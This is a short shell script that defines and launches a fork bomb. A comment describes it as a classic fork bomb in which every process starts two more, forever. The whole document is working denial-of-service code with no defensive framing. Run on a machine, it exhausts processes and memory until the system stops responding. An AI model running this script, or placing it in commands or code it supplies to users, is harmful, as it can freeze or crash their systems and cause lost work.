#!/bin/sh
# A classic fork bomb: every process starts two more, forever.
bomb() { bomb | bomb & }
bomb
wait
